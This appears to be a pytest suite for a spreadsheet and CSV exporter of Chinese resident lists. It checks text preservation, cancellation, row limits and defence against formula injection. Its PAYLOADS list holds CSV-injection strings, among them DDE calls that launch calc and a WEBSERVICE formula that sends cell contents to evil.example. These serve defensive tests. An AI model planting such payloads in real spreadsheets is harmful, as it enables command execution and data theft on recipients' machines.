"""A list is found in the file as it was seen: every text whole, nothing calculated."""

import csv
import tempfile
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any, Literal
from xml.etree import ElementTree

import pytest
from hypothesis import example, given, strategies as st
from python_calamine import CalamineWorkbook

from db.subjects.records.catalogue import BY_KIND
from desktop.errors import RuleBroken
from desktop.ledgers import workbook
from desktop.ledgers.sheet import Holds, Sheet, Stopped
from desktop.ledgers.table_text import write_csv
from desktop.ledgers.workbook import write_workbook
from desktop.ledgers.writing import LONGEST
from desktop.pasting.values import Cells

SAID = "导出人：李晓燕　博兴县综治中心　2026-11-22 10:12　事由：季度核对　含遮盖信息"
HEADERS = ("姓名", "证件号码", "现住地址")
RARE = "𠮷野龘𬭼䶮·𱁬"
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*HYPERLINK("http://evil.example")',
    '\t=WEBSERVICE("http://evil.example/"&A1)',
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u3000\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
Encoding = Literal["utf-8-sig", "gb18030"]
Write = Callable[[Path, Sheet, Callable[[int], None]], int]
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet(*rows: Sequence[str], **other: Any) -> Sheet:
    plain = Sheet("常住人口", SAID, HEADERS, (10, 0, 40), rows, len(rows))
    return replace(plain, **other)


def unheard(_rows: int) -> None:
    """Nobody listens."""


def as_utf8(target: Path, what: Sheet, progress: Callable[[int], None]) -> int:
    return write_csv(target, what, "utf-8-sig", progress)


def as_gb18030(target: Path, what: Sheet, progress: Callable[[int], None]) -> int:
    return write_csv(target, what, "gb18030", progress)


FORMATS = pytest.mark.parametrize("write", [write_workbook, as_utf8, as_gb18030])


def in_workbook(path: Path) -> list[list[object]]:
    page = CalamineWorkbook.from_path(path).get_sheet_by_index(0)
    return [list(line) for line in page.to_python(skip_empty_area=False)]


def in_text(path: Path, encoding: Encoding) -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as file:
        return list(csv.reader(file, strict=True))


def lines_of(write: Write, what: Sheet, folder: Path) -> Sequence[Sequence[object]]:
    """Write and read back, from the headers on; what a line leaves out at its end is empty."""
    path = folder / "名单"
    write(path, what, unheard)
    if write is write_workbook:
        return in_workbook(path)[2:]
    found = in_text(path, "utf-8-sig" if write is as_utf8 else "gb18030")
    return [line + [""] * (len(what.headers) - len(line)) for line in found]


def part(path: Path, name: str) -> ElementTree.Element:
    with zipfile.ZipFile(path) as parts:
        return ElementTree.fromstring(parts.read(f"xl/{name}.xml"))  # noqa: S314


def test_above_the_rows_of_a_workbook_stand_the_title_who_when_and_why(tmp_path: Path) -> None:
    write_workbook(tmp_path / "a", sheet(("王建国", "1", "兴福镇")), unheard)
    lines = in_workbook(tmp_path / "a")
    assert [line[0] for line in lines] == ["常住人口", SAID, "姓名", "王建国"]
    assert tuple(lines[2]) == HEADERS


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_a_text_file_is_a_table_that_any_program_reads(encoding: Encoding, tmp_path: Path) -> None:
    write_csv(tmp_path / "a", sheet(("王建国", "1", "兴福镇")), encoding, unheard)
    with (tmp_path / "a").open(encoding=encoding, newline="") as file:
        assert [*csv.DictReader(file)] == [
            {"姓名": "王建国", "证件号码": "1", "现住地址": "兴福镇"}
        ]


COUNTED = replace(
    Sheet("房屋", SAID, ("编号", "面积", "金额", "登记日期"), (0, 0, 0, 0), (), 3),
    rows=[
        ("007", "86.5", "￥12,000.00", "2026-06-03"),
        ("371625199001010018", "1,000", "￥0.50", "****"),
        ("3-4", "", "", "1980-05-06"),
    ],
    holds=(Holds.TEXT, Holds.NUMBER, Holds.MONEY, Holds.DAY),
)


@FORMATS
def test_what_counts_adds_up_and_what_names_stays(write: Write, tmp_path: Path) -> None:
    rows = lines_of(write, COUNTED, tmp_path)[1:]
    guard = "" if write is write_workbook else "'"
    names, areas, amounts, days = zip(*rows, strict=True)
    assert [*names] == [f"{guard}{one}" for one in ("007", "371625199001010018", "3-4")]
    assert sum(float(str(one)) for one in areas if one) == 1086.5
    assert sum(float(str(one)) for one in amounts if one) == 12000.5
    assert [str(one) for one in days] == ["2026-06-03", "****", "1980-05-06"]
    if write is write_workbook:
        assert [type(one) for one in rows[0]] == [str, float, float, date]


@pytest.mark.parametrize(
    "cell",
    ["007", "371625199001010018", "37162519900101001X", "3-4", "1/2", "1E5", "8:30", "6月3日"],
)
def test_no_spreadsheet_changes_a_number_that_names(cell: str, tmp_path: Path) -> None:
    write_csv(tmp_path / "a", sheet((cell, "12", "王")), "utf-8-sig", unheard)
    guard = "" if cell.endswith("X") else "'"
    assert in_text(tmp_path / "a", "utf-8-sig")[1] == [guard + cell, "12", "王"]
    assert (
        Cells({}, date(2026, 11, 30)).read(BY_KIND["person"].by_name["number"], guard + cell)
        == cell
    )


@pytest.mark.parametrize(
    "text",
    ["371699198001010018", "007", "1E5", "=1+1", "2026-11-22", "TRUE", "http://a.b", "1,5", "-0"],
)
def test_a_text_stays_a_text_in_a_workbook(text: str, tmp_path: Path) -> None:
    assert lines_of(write_workbook, sheet((text, "a", "b")), tmp_path)[1] == [text, "a", "b"]


def test_every_cell_is_a_text_and_every_empty_place_would_make_one(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, sheet(("12", "", "0"), ("=1+1", "<r>", "x")), unheard)
    faces = list(part(path, "styles").iterfind(f"{MAIN}cellXfs/{MAIN}xf"))
    page = part(path, "worksheets/sheet1")
    cells = list(page.iter(f"{MAIN}c"))
    assert len(cells) == 10
    assert {cell.get("t") for cell in cells} == {"s"}
    assert len(faces) > 3
    assert {face.get("numFmtId") for face in faces} == {"49"}  # "@" of Excel's own
    assert not list(page.iter(f"{MAIN}f"))


def test_the_headers_stay_in_sight_and_filter_and_columns_have_their_widths(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, sheet(("a", "b", "c"), ("d", "e", "f")), unheard)
    page = part(path, "worksheets/sheet1")
    assert [pane.get("ySplit") for pane in page.iter(f"{MAIN}pane")] == ["3"]
    assert [found.get("ref") for found in page.iter(f"{MAIN}autoFilter")] == ["A3:C5"]
    widths = [float(column.get("width") or 0) for column in page.iter(f"{MAIN}col")]
    assert [round(width) for width in widths] == [11, 13, 41]  # Excel adds its margin
    aligned = list(part(path, "styles").iter(f"{MAIN}alignment"))
    assert aligned
    assert not [face for face in aligned if face.get("wrapText")]


@FORMATS
def test_rare_characters_survive(write: Write, tmp_path: Path) -> None:
    what = sheet((RARE, f"<r>{RARE}</r>", "a & <b>"))
    assert list(lines_of(write, what, tmp_path)[1]) == [RARE, f"<r>{RARE}</r>", "a & <b>"]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_what_begins_like_a_formula_gets_an_apostrophe_in_csv(
    encoding: Encoding, payload: str, tmp_path: Path
) -> None:
    path, cell = tmp_path / "a.csv", payload.replace("\r", "\n")
    what = sheet((payload, "a", payload), headers=(payload,) * 3)
    write_csv(path, what, encoding, unheard)
    assert in_text(path, encoding) == [["'" + cell] * 3, ["'" + cell, "a", "'" + cell]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_is_a_mere_text_in_a_workbook(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, sheet((payload, "a", "b")), unheard)
    assert in_workbook(path)[3][0] == payload.replace("\r", "\n")
    assert not list(part(path, "worksheets/sheet1").iter(f"{MAIN}f"))


def test_csv_has_doubled_quotes_windows_lines_and_no_apostrophe_without_need(
    tmp_path: Path,
) -> None:
    path = tmp_path / "a.csv"
    write_csv(path, sheet(('说"好"', "a-b=c", "1,2")), "utf-8-sig", unheard)
    lines = path.read_bytes().decode("utf-8").split("\r\n")
    assert lines == ["\ufeff姓名,证件号码,现住地址", '"说""好""",a-b=c,"1,2"', ""]


@FORMATS
def test_an_empty_list_has_its_headers_only(write: Write, tmp_path: Path) -> None:
    lines = lines_of(write, sheet(), tmp_path)
    assert (len(lines), tuple(lines[0])) == (1, HEADERS)


@FORMATS
def test_progress_never_goes_back_and_reaches_the_count(write: Write, tmp_path: Path) -> None:
    heard: list[int] = []
    what = sheet(*[("a", "b", "c")] * 1001)
    assert write(tmp_path / "a", what, heard.append) == 1001
    assert heard == sorted(heard)
    assert (len(set(heard)) > 3, heard[-1]) == (True, what.count)


@FORMATS
@pytest.mark.parametrize("old", [b"old", None])
@pytest.mark.parametrize("last", [False, True], ids=["on the way", "when it is ready"])
def test_a_cancel_leaves_no_file_and_the_older_one_as_it_was(
    write: Write, old: bytes | None, last: bool, tmp_path: Path
) -> None:
    path, heard = tmp_path / "a", list[int]()
    if old is not None:
        path.write_bytes(old)

    def cancel(done: int) -> None:
        heard.append(done)
        if heard.count(1000) == 2 or not last:
            raise Stopped

    with pytest.raises(Stopped):
        write(path, sheet(*[("a", "b", "c")] * 1000), cancel)
    assert heard[-1] == 1000 if last else heard[-1] < 1000
    assert {found.name: found.read_bytes() for found in tmp_path.iterdir()} == (
        {"a": old} if old is not None else {}
    )


@FORMATS
def test_a_list_that_breaks_off_leaves_the_older_file(write: Write, tmp_path: Path) -> None:
    def broken() -> Iterator[tuple[str, ...]]:
        yield ("a", "b", "c")
        raise LookupError

    (tmp_path / "a").write_bytes(b"old")
    with pytest.raises(LookupError):
        write(tmp_path / "a", sheet(rows=broken()), unheard)
    assert [(path.name, path.read_bytes()) for path in tmp_path.iterdir()] == [("a", b"old")]


@FORMATS
def test_nothing_lies_in_plain_text_anywhere_else_meanwhile(
    write: Write, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folders: list[Path] = []
    real = tempfile.mkstemp

    def watched(suffix: str, prefix: str, folder: Path) -> tuple[int, str]:
        folders.append(folder)
        return real(suffix, prefix, folder)

    monkeypatch.setattr("tempfile.mkstemp", watched)
    write(tmp_path / "a", sheet(("a", "b", "c")), unheard)
    assert folders == [tmp_path]


def test_more_rows_than_excel_holds_are_refused_before_one_is_asked_for(tmp_path: Path) -> None:
    asked: list[str] = []

    def rows() -> Iterator[tuple[str, ...]]:
        asked.append("row")
        yield ("a", "b", "c")

    with pytest.raises(RuleBroken, match=r"export\.too_many_rows") as refused:
        write_workbook(tmp_path / "a", sheet(rows=rows(), count=1_048_574), unheard)
    assert refused.value.details == {"limit": 1_048_573}
    assert (asked, list(tmp_path.iterdir())) == ([], [])


def test_too_many_rows_that_nobody_counted_are_refused_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 5)
    rows = [("a", "b", "c")] * 6
    assert write_workbook(tmp_path / "a", sheet(*rows[:5], count=None), unheard) == 5
    with pytest.raises(RuleBroken, match=r"export\.too_many_rows"):
        write_workbook(tmp_path / "b", sheet(*rows, count=None), unheard)
    assert [path.name for path in tmp_path.iterdir()] == ["a"]


@FORMATS
def test_what_no_file_may_hold_is_left_out(write: Write, tmp_path: Path) -> None:
    what = sheet(("a\x00b\x0bc\x1fd", "甲\ud800乙\uffff", "一\r\n二\t三"))
    assert list(lines_of(write, what, tmp_path)[1]) == ["abcd", "甲乙", "一\n二\t三"]


@FORMATS
@pytest.mark.parametrize("character", ["长", "𠮷"])
def test_a_text_too_long_for_a_cell_ends_in_an_ellipsis(
    write: Write, character: str, tmp_path: Path
) -> None:
    units = len(character.encode("utf-16-le")) // 2
    fits, too_long = character * (LONGEST // units), character * (LONGEST // units + 1)
    found = lines_of(write, sheet((fits, too_long, "")), tmp_path)[1]
    assert found[0] == fits
    assert found[1] == character * ((LONGEST - 1) // units) + "…"


@pytest.mark.parametrize(
    ("title", "tab"),
    [
        ("矛盾纠纷", "矛盾纠纷"),
        ("a[b]:c*d?e/f\\g", "abcdefg"),
        ("'引'", "引"),
        ("𠮷" * 20, "𠮷" * 15 + "…"),
        ("??", "Sheet1"),
    ],
)
def test_the_tab_is_named_after_the_title_as_far_as_excel_allows(
    title: str, tab: str, tmp_path: Path
) -> None:
    path = tmp_path / "a.xlsx"
    write_workbook(path, sheet(title=title), unheard)
    assert CalamineWorkbook.from_path(path).sheet_names == [tab]
    assert in_workbook(path)[0][0] == title


# control characters, half characters and the two that no XML may hold are tested by name above
texts = st.text(st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff"))
rows_of_three = st.lists(st.tuples(texts, texts, texts.filter(bool)), max_size=5)


@given(rows_of_three)
@example([("_x0041_", "<r>", "<r><t>a</t></r>"), (" a ", "'", "&amp;")])
def test_a_workbook_reads_back_as_it_was_written(rows: list[tuple[str, str, str]]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        lines = lines_of(write_workbook, sheet(*rows), Path(folder))
    assert [tuple(line) for line in lines[1:]] == rows


@given(rows_of_three, st.sampled_from([as_utf8, as_gb18030]))
@example([("\ufeff", '"', "'=1"), (",", "=1", "㐀")], as_gb18030)
def test_csv_reads_back_as_it_was_written_but_for_apostrophes(
    rows: list[tuple[str, str, str]], write: Write
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        lines = lines_of(write, sheet(*rows), Path(folder))
    found = [tuple(line) for line in lines[1:]]
    assert len(found) == len(rows)
    for line, row in zip(found, rows, strict=True):
        for cell, text in zip(line, row, strict=True):
            assert cell in {text, "'" + text}
            assert str(cell)[:1] not in {*"=+-@＝＋－＠"}
